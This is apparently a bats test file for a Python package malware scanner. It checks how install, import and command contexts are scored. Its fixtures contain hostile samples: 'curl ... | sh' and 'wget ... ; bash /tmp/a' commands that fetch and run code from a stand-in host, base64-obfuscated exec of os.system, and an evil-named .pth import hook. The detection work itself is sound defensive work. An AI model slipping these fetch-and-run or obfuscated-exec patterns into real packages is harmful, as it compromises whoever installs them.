#!/usr/bin/env bats
# 43b-contexts.bats: the command context (a package's __main__.py, a console script's
# function, a module's main block: code that runs when the user runs the package's
# command) and loops over constants (a loop target bound to each element: build tools,
# exec/eval of each element's code) — issue 11.  Each relaxation with the malicious
# variant that must still weigh in full.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg/pkg; printf 'from setuptools import setup\nsetup(name="pkg")\n' > pkg/setup.py; }

# hits DIR DETECTION: "path line context score" of that detection's hits for the directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.path) \(.line) \(.context) \(.score)"'
}

# payloads DIR: "line rules source" of every payload rewrite attached in the directory.
payloads() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite |
		jq -r 'select(.type == "ast") | .. | objects | select(has("_payload_source")) |
		       "\(.lineno) \(._payload._origin.rules | join(",")) \(._payload_source | gsub("\n"; "|"))"'
}

@test "a package's __main__.py runs when the user runs python -m pkg: context command" {
	printf 'import os\nos.system(os.environ["CMD"])\n' > pkg/pkg/__main__.py
	run hits pkg ShellCommand
	assert_output 'pkg/__main__.py 2 command 2'
}

@test "look-alike: __main__.py that setup.py, a .pth file or the package's import runs weighs there" {
	printf 'import os\nos.system(os.environ["CMD"])\n' > pkg/pkg/__main__.py
	printf 'from setuptools import setup\nimport pkg.__main__\nsetup(name="pkg")\n' > pkg/setup.py
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/__main__.py 2 command 2\npkg/__main__.py 2 install 100')"
	printf 'from setuptools import setup\nexec(open("pkg/__main__.py").read())\nsetup(name="pkg")\n' > pkg/setup.py
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/__main__.py 2 command 2\npkg/__main__.py 2 install 100')"
	printf 'from setuptools import setup\nsetup(name="pkg")\n' > pkg/setup.py
	printf 'import pkg.__main__\n' > pkg/zz-evil.pth
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/__main__.py 2 command 2\npkg/__main__.py 2 install 100')"
	rm pkg/zz-evil.pth
	printf 'import pkg.__main__\n' > pkg/pkg/__init__.py
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/__main__.py 2 command 2\npkg/__main__.py 2 import 50')"
}

@test "a console script's function runs when the user runs the command: context command, with the chain" {
	printf 'import os\ndef main():\n    eval(os.environ["EXPR"])\n' > pkg/pkg/cli.py
	printf '[options.entry_points]\nconsole_scripts =\n    pk = pkg.cli:main\n' > pkg/setup.cfg
	run --separate-stderr bash -c "aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r 'select(.type == \"hit\" and .context == \"command\") | \"\(.score) \(.severity) \(.message)\"'"
	assert_output "2 info eval() runs code built at run time when the user runs the package's command (reached through a console script → cli.main())"
}

@test "look-alike: the entry-point module's top level is still import time; setup.py calling the entry function is install time" {
	printf 'import os\nos.system(os.environ["CMD"])\ndef main():\n    eval(os.environ["EXPR"])\n' > pkg/pkg/cli.py
	printf '[options.entry_points]\nconsole_scripts =\n    pk = pkg.cli:main\n' > pkg/setup.cfg
	run hits pkg ShellCommand
	assert_output 'pkg/cli.py 2 import 50'
	printf 'from setuptools import setup\nfrom pkg.cli import main\nmain()\nsetup(name="pkg")\n' > pkg/setup.py
	run hits pkg CodeExecution
	assert_output "$(printf 'pkg/cli.py 4 function 2\npkg/cli.py 4 install 100')"
}

@test "a module's if __name__ == '__main__': block and what it calls are command code" {
	printf 'import os\ndef helper():\n    os.system(os.environ["CMD"])\nif __name__ == "__main__":\n    helper()\n' > pkg/pkg/tool.py
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/tool.py 3 function 2\npkg/tool.py 3 command 2')"
}

@test "look-alike: a module setup.py runs as a script weighs its main block at install time (not command too)" {
	printf 'import os\ndef helper():\n    os.system(os.environ["CMD"])\nif __name__ == "__main__":\n    helper()\n' > pkg/pkg/tool.py
	printf 'from setuptools import setup\nexec(open("pkg/tool.py").read())\nsetup(name="pkg")\n' > pkg/setup.py
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/tool.py 3 function 2\npkg/tool.py 3 install 100')"
}

@test "a rule may weigh the command context itself; without it, command weighs what function does" {
	sed 's/    score: {install: 100, import: 50, function: 2}/    score: {install: 100, import: 50, function: 2, command: 7}/' \
		"$BATS_TEST_DIRNAME/../data/rules.yaml" > rules.yaml
	printf 'import os\nos.system(os.environ["CMD"])\nos.popen(os.environ["CMD"])\neval(os.environ["E"])\n' > pkg/pkg/__main__.py
	run --separate-stderr bash -c "aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite | aura-analyze --rules rules.yaml |
		jq -r 'select(.type == \"hit\") | \"\(.detection) \(.context) \(.score)\"'"
	assert_output "$(printf 'ShellCommand command 7\nShellCommand command 7\nCodeExecution command 2')"
}

@test "a loop over constant build commands is a build: each element a build tool" {
	cat > pkg/setup.py <<'PY'
import os, subprocess
from setuptools import setup
for cmd in ("dpkg-architecture -qDEB_HOST_MULTIARCH", "gcc -print-multiarch", "gcc -dumpmachine"):
    f = os.popen(cmd)
PROBES = ("pkg-config --cflags sdl2", "sdl2-config --libs")
for p in PROBES:
    os.system(p)
[subprocess.check_output(c, shell=True) for c in ["gcc -v", "cc -v"]]
setup(name="pkg")
PY
	run hits pkg ShellCommand
	assert_output "$(printf 'setup.py 4 install 10\nsetup.py 7 install 10')"
	run hits pkg ProcessExecution
	assert_output 'setup.py 8 install 10'
}

@test "look-alike: a loop with one non-build element, or over a list that changes or is computed, weighs in full" {
	cat > pkg/setup.py <<'PY'
import os
from setuptools import setup
for cmd in ("gcc -dumpmachine", "curl http://x.example/a | sh"):
    os.popen(cmd)
for cmd in ("gcc -dumpmachine", "wget -q -O /tmp/a x.example/a"):
    os.popen(cmd)
CMDS = ["pkg-config --libs x"]
CMDS.append("bash /tmp/a")
for c in CMDS:
    os.system(c)
MORE = ["pkg-config --libs x"]
def extend(l):
    l.append("bash /tmp/a")
extend(MORE)
for c in MORE:
    os.system(c)
def probes():
    return ["gcc -v"]
for c in probes():
    os.system(c)
setup(name="pkg")
PY
	run hits pkg ShellCommand
	assert_output "$(printf 'setup.py 4 install 100\nsetup.py 6 install 100\nsetup.py 10 install 100\nsetup.py 16 install 100\nsetup.py 20 install 100')"
}

@test "eval in a loop over constants runs each element's code: a name lookup weighs little" {
	cat > pkg/pkg/flavor.py <<'PY'
all_flavors = []
all_flavors.append("numpy")
all_flavors.append("python")
_numpy_aliases = ["np"]
_python_aliases = ["py"]
def _register_aliases():
    for flavor in all_flavors:
        aliases = eval("_%s_aliases" % flavor)
def _register_converters():
    for src in all_flavors:
        for dst in all_flavors:
            conv = eval(f"_conv_{src}_to_{dst}")
def _disable(flavor):
    all_flavors.remove(flavor)
_register_aliases()
_register_converters()
PY
	run payloads pkg
	assert_output "$(printf '8 fold:each,fold:format _numpy_aliases|_python_aliases\n12 fold:each,fold:fstring _conv_numpy_to_numpy|_conv_numpy_to_python|_conv_python_to_numpy|_conv_python_to_python')"
	run hits pkg CodeExecution
	assert_output "$(printf 'pkg/flavor.py 8 import 2\npkg/flavor.py 12 import 2')"
}

@test "look-alike: exec over constants that decode to code, that call, or over a list that changes, weighs in full" {
	cat > pkg/pkg/flavor.py <<'PY'
import base64, os
for part in ("aW1wb3J0IG9z", "b3Muc3lzdGVtKCdpZCcp"):
    exec(base64.b64decode(part))
for code in ("x = 1", "__import__('os').system('curl http://x.example/a | sh')"):
    exec(code)
names = ["a"]
names.append(os.environ["N"])
for n in names:
    eval("_%s" % n)
more = ["a"]
def grow(l):
    l.append("b")
grow(more)
for n in more:
    eval("_%s" % n)
for n in os.listdir("."):
    eval("_%s" % n)
PY
	run payloads pkg
	assert_output "$(printf '3 fold:each,decode:b64decode import os|os.system('"'"'id'"'"')\n5 fold:each x = 1|__import__('"'"'os'"'"').system('"'"'curl http://x.example/a | sh'"'"')')"
	run hits pkg CodeExecution
	assert_output "$(printf 'pkg/flavor.py 3 import 40\npkg/flavor.py 5 import 40\npkg/flavor.py 9 import 40\npkg/flavor.py 15 import 40\npkg/flavor.py 17 import 40')"
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/flavor.py 3 import 50\npkg/flavor.py 5 import 50')"
}
